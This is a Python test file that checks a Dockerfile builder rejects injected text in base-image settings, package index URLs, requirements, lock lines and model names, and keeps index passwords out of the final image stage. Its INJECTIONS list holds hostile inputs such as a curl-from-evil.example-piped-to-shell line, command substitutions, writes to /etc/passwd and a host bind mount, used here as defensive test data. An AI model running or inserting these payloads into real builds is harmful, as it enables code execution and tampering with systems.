"""No text of anybody's reaches the Dockerfile: not a model's name, not a requirement, not an address."""

import io
import json
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest

from tests.worker.builders.making import make_spec
from worker.builders.base import BuildSettings
from worker.builders.image.assembly import make_config
from worker.builders.image.dockerfile import Context, make_context, render, template
from worker.builders.image.locked import Locked, read_lock, write_requirements
from worker.builders.image.runtime import runtime_key
from worker.builders.locking import pin
from worker.errors import ToolError
from worker.specs import BuildSpec

KEY = "a" * 64
PACKAGE = Locked("numpy", "2.2.0", (f"sha256:{'b' * 64}",))
INJECTIONS = [
    "x\nRUN curl evil.example | sh", "x\r\nRUN id", "x\\\nRUN id", 'x"]\nRUN ["id', "x'; id; '", "$(id)", "`id`",
    "${PATH}", "$PATH", "x && id", "x; id", "x | id", "x > /etc/passwd", "# escape=`", "FROM evil.example/image",
    "x AS packages", "--network=host", "-r /etc/passwd", "@base@", "@key@", "@python@", "x\x00y", "x\x1b[2J",
    "x\u2028RUN id", "../../etc/passwd", "ONBUILD RUN id", "COPY / /", "x --mount=type=bind,target=/host", "%s%n",
    "{{7*7}}",
]  # fmt: skip


@contextmanager
def perhaps_refused(kind: str) -> Iterator[None]:
    """Either what stands in the block holds, or the text was refused as this kind."""
    try:
        yield
    except ToolError as error:
        if error.kind != kind:
            raise


def rendered(settings: BuildSettings = BuildSettings()) -> str:  # noqa: B008 — frozen
    return make_context(settings, KEY, (PACKAGE,)).dockerfile


def test_only_three_slots_are_ever_filled() -> None:
    settings = BuildSettings(base_image="registry.example:5000/team/python:3.12-slim", base_python="3.12")
    text = template()
    for slot, value in {"@base@": settings.base_image, "@python@": "3.12", "@key@": KEY}.items():
        assert slot in text
        text = text.replace(slot, value)
    assert rendered(settings) == text
    assert "@" not in text


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_injected_base_image_python_or_key_is_refused(text: str) -> None:
    for settings, key in [
        (BuildSettings(base_image=text), KEY),
        (BuildSettings(base_image=f"python:3.11{text}"), KEY),
        (BuildSettings(base_python=text), KEY),
        (BuildSettings(base_python=f"3.11{text}"), KEY),
        (BuildSettings(), text),
        (BuildSettings(), f"{KEY}{text}"),
    ]:
        with pytest.raises(ToolError) as caught:
            render(settings, key)
        assert (caught.value.kind, caught.value.permanent) == ("bad_setting", True)


@pytest.mark.parametrize("text", INJECTIONS)
def test_injected_settings_of_the_index_change_no_byte_of_the_dockerfile(text: str) -> None:
    for settings in (BuildSettings(index_url=text), BuildSettings(torch_index_url=text)):
        with perhaps_refused("bad_setting"):
            context = make_context(settings, KEY, (PACKAGE,))
            assert context.dockerfile == rendered()
            assert len(context.files["pip.conf"].splitlines()) == len(_pip_conf(BuildSettings(index_url="x")))


def _pip_conf(settings: BuildSettings) -> list[bytes]:
    return make_context(settings, KEY, (PACKAGE,)).files["pip.conf"].splitlines()


@pytest.mark.parametrize("text", INJECTIONS)
def test_injected_requirements_never_get_as_far_as_a_lock(text: str, tmp_path: Path) -> None:
    for requirement in (text, f"numpy=={text}", f"{text}==1", f"numpy==1 {text}"):
        with pytest.raises(ToolError) as caught:
            pin([requirement])
        assert caught.value.kind == "bad_requirement"


@pytest.mark.parametrize("text", INJECTIONS)
def test_injected_lines_of_a_lock_are_refused(text: str, tmp_path: Path) -> None:
    path = tmp_path / "lock.txt"
    path.write_text(f"numpy==2.2.0 --hash={PACKAGE.hashes[0]} {text}\n", encoding="utf-8", newline="")
    with perhaps_refused("bad_lock"):
        assert write_requirements(read_lock(path)) == f"numpy==2.2.0 --hash={PACKAGE.hashes[0]}\n"


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_injected_name_of_a_model_is_a_label_and_nothing_else(text: str, tmp_path: Path) -> None:
    spec = _named(make_spec(tmp_path), text)
    below = {"config": {"Labels": None, "User": "10001:10001", "Entrypoint": ["python"]}, "rootfs": {"diff_ids": []}}
    config = json.loads(json.dumps(make_config(spec, below, "sha256:x")))
    labels = config["config"].pop("Labels")
    assert config["config"] == {"User": "10001:10001", "Entrypoint": ["python"]}
    assert labels == {"slipway.model": text, "slipway.version": text, "slipway.subject": text}


def _named(spec: BuildSpec, text: str) -> BuildSpec:
    return replace(spec, model=text, version=text, subject=text)


def test_the_key_depends_on_packages_base_and_python_and_not_on_where_they_come_from() -> None:
    plain = BuildSettings()
    key = runtime_key(plain, [PACKAGE])
    assert runtime_key(BuildSettings(index_url="https://index.example", build_host="tcp://h:1"), [PACKAGE]) == key
    others = [
        runtime_key(plain, [replace(PACKAGE, version="2.2.1")]),
        runtime_key(plain, [replace(PACKAGE, hashes=(f"sha256:{'c' * 64}",))]),
        runtime_key(BuildSettings(base_image="python:3.12-slim"), [PACKAGE]),
        runtime_key(BuildSettings(base_python="3.12"), [PACKAGE]),
    ]
    assert len({key, *others}) == 5


def test_the_context_is_five_plain_files_of_our_own() -> None:
    with tarfile.open(fileobj=io.BytesIO(make_context(BuildSettings(), KEY, (PACKAGE,)).as_tar())) as tar:
        assert all(entry.isreg() for entry in tar)
        names = tar.getnames()
    assert names == ["Dockerfile", "certificates.pem", "healthcheck.py", "pip.conf", "requirements.txt"]


def test_the_same_context_has_the_same_bytes() -> None:
    made = [Context("FROM x", {"b": b"2", "a": b"1"}), Context("FROM x", {"a": b"1", "b": b"2"})]
    assert made[0].as_tar() == made[1].as_tar()


def test_the_password_of_the_index_goes_in_as_a_file_of_the_first_stage_alone() -> None:
    settings = BuildSettings(index_url="https://me:canary@index.example/simple")
    context = make_context(settings, KEY, (PACKAGE,))
    assert b"index-url = https://me:canary@index.example/simple" in context.files["pip.conf"]
    assert "canary" not in context.dockerfile
    last_stage = context.dockerfile.rpartition("FROM ")[2]
    assert "pip.conf" not in last_stage
    assert "certificates" not in last_stage


def test_packages_are_installed_by_hash_and_never_built_from_source() -> None:
    line = next(line for line in template().splitlines() if '"install"' in line)
    words = json.loads(line.removeprefix("RUN "))
    assert {"--require-hashes", "--only-binary", ":all:", "--no-deps"} <= set(words)


def test_the_check_for_another_python_is_a_sentence() -> None:
    line = next(line for line in rendered(BuildSettings(base_python="3.99")).splitlines() if "sys.version_info" in line)
    words = json.loads(line.removeprefix("RUN "))
    assert words[0] == "python3"
    done = subprocess.run([shutil.which("python3") or sys.executable, *words[1:]], capture_output=True, text=True)
    assert done.returncode == 1
    assert done.stderr.strip().startswith("The base image has Python 3.")
    assert done.stderr.strip().endswith("not 3.99")
